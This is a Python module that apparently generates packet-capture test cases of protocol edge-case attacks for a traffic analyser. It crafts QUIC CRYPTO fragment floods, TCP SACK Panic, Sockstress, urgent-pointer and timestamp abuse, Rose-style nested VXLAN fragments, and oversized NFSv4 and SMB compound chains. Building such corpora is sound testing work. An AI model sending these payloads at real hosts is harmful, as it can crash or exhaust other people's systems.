# SPDX-License-Identifier: GPL-2.0-or-later
"""Attacks on corners of protocols: pieces from the end, options of TCP, chains of commands."""
import struct

from attacks_binary import NFS_ORDINARY, dialogue, smb_entry
from attacks_crypto import crypto, hello, quic, sni
from attacks_packets import datagram, fragments_in_order, ipv4, transfers
from catalogue import connect, entry, host, rounds
from pcapgen import ACK, PSH

HELD = "memory held by gaps in CRYPTO frames"
WALKS = "Crosby and Wallach 2003; walks of lists"
URG = 0x20


# --- QUIC -----------------------------------------------------------------------------------------

@entry("QUIC: a handshake in pieces of one byte, the last first", HELD, short=True, proto="quic")
def quic_backwards(cap, size):
    quic(cap, size, lambda i: 60 if i < 0 else b"".join(
        crypto(60 * 200 - (i * 200 + j), b"a") for j in range(200)), 900)


@entry("QUIC: pieces that each cover all before", HELD, proto="quic")
def quic_covers(cap, size):
    quic(cap, size, lambda i: 100 if i < 0 else b"".join(
        crypto(1, b"a" * (1 + i % 20 + j)) for j in range(40)), 900)


@entry("QUIC: every second byte of a handshake, then all of it, again and again", HELD, proto="quic")
def quic_comb(cap, size):
    whole = hello(sni(b"a" * 200))
    quic(cap, size, lambda i: 40 if i < 0 else b"".join(
        crypto(j, whole[j:j + 1]) for j in range(1 + i % 2, 200, 2)) + crypto(1, whole[1:200]), 900)


# --- TCP ------------------------------------------------------------------------------------------

def segments(cap, size, count, flags, options, payload=b"ab"):
    """options(i): those of the i-th segment; the twin is ordinary."""
    if size is not None:
        transfers(cap, size, 1000)
        return
    flow = connect(cap, 9999)
    for i in range(count):
        flow.send(i % 2, flags, payload, options=options(i))


@entry("TCP: timestamps that jump forth and back", "PAWS, RFC 7323", short=True)
def tcp_timestamps(cap, size):
    segments(cap, size, 12000, PSH | ACK, lambda i: struct.pack(
        ">BBBBII", 1, 1, 8, 10, i * 0x40000001 & 0xffffffff, 0xffffffff - i))


@entry("TCP: urgent data in each segment", "urgent pointers, CVE-1999-0153 style")
def tcp_urgent(cap, size):
    if size is not None:
        transfers(cap, size, 1000)
        return
    flow = connect(cap, 9999)
    for i in range(12000):
        (src, sport), (dst, dport) = flow.ends
        head = struct.pack(">HHIIBBHHH", sport, dport, flow.seq[0], flow.seq[1], 0x50,
                           ACK | PSH | URG, 65535, 0, 1 + i % 3)
        cap.ip(src, dst, 6, head + b"ab")
        flow.seq[0] += 2


@entry("TCP: acknowledgements of blocks that nobody sent", "CVE-2019-11477, SACK Panic", short=True)
def tcp_sack_blocks(cap, size):
    segments(cap, size, 9000, ACK, lambda i: b"\1\1\5\x1a" + struct.pack(
        ">IIIIII", *(5000 + i * 3000 + k * 700 for k in range(6))), b"")


@entry("TCP: windows that shrink and grow", "zero windows, CVE-2008-4609 (Sockstress)")
def tcp_windows(cap, size):
    if size is not None:
        transfers(cap, size, 1000)
        return
    for i in range(60):
        flow = connect(cap, 9999, i)
        (src, sport), (dst, dport) = flow.ends
        for j in range(200):
            cap.tcp(dst, dport, src, sport, flow.seq[1], flow.seq[0], ACK, window=j % 2 * 1400)
            cap.tcp(src, sport, dst, dport, flow.seq[0] + j % 2 * 1000, flow.seq[1], ACK | PSH, b"x")


# --- tunnels --------------------------------------------------------------------------------------

@entry("tunnels: VXLAN with fragments that never are whole, themselves in fragments",
       "recursion of tunnels and fragments; Rose attack", short=True)
def tunnel_vxlan_fragments(cap, size):
    if size is not None:
        fragments_in_order(cap, size)
        return
    for i in range(3000):
        inner = ipv4(17, datagram(4000, 4001, b"x" * 64), source=host(i))
        inner = inner[:4] + struct.pack(">HH", i & 0xffff, 0x2000) + inner[8:]
        outer = datagram(4789, 4789, b"\x08\0\0\0\0\0\1\0" + b"\2" * 12 + b"\x08\0" + inner)
        cap.ip(host(i), "192.168.0.1", 17, outer[80:], fragment=80, ident=i & 0xffff)
        cap.ip(host(i), "192.168.0.1", 17, outer[:80], more=True, ident=i & 0xffff)


# --- chains of commands ---------------------------------------------------------------------------

def nfs4_compound(xid, operations, count):
    body = struct.pack(">III", 0, 0, count) + operations
    message = struct.pack(">IIIIIIIIII", xid, 0, 2, 100003, 4, 1, 0, 0, 0, 0) + body
    return struct.pack(">I", 0x80000000 | len(message)) + message


PUT_ROOT, GET_HANDLE = struct.pack(">I", 24), struct.pack(">I", 10)
LOOK_UP = struct.pack(">II", 15, 1) + b"a\0\0\0"


@entry("NFS: compounds of thousands of operations", WALKS, short=True, proto="nfs")
def nfs4_operations(cap, size):
    dialogue(cap, size, 2049, [], [(0, nfs4_compound(i, PUT_ROOT * 8000, 8000))
                                   for i in range(20)], NFS_ORDINARY)


@entry("NFS: compounds of thousands of names", WALKS, proto="nfs")
def nfs4_names(cap, size):
    dialogue(cap, size, 2049, [], [(0, nfs4_compound(i, LOOK_UP * 2500 + GET_HANDLE, 2501))
                                   for i in range(20)], NFS_ORDINARY)


@smb_entry("commands of SMB1 chained by AndX, each with a name", "chained requests", short=True)
def smb1_andx():
    head = b"\xffSMB\x2d" + b"\0" * 19 + b"\1\0\1\0\1\0\1\0"
    body = head
    for i in range(900):
        block = 1 + 30 + 2 + 4
        after = len(body) + block
        body += b"\x0f\x2d\0" + struct.pack("<H", after) + b"\0" * 26 + b"\4\0" + b"name"
    return [(0, struct.pack(">I", len(body)) + body)] * 20


@smb_entry("compounds whose commands each close a file of the one before", "compounded requests")
def smb2_related():
    close = b"\xfeSMB" + struct.pack("<HHIHHIIQIIQ", 64, 0, 0, 6, 1, 4, 88, 7, 0, 1, 1) + \
        b"\0" * 16 + struct.pack("<HHI", 24, 0, 0) + b"\xff" * 16
    last = close[:20] + b"\0" * 4 + close[24:]
    body = close * 700 + last
    return [(0, struct.pack(">I", len(body)) + body)] * 12
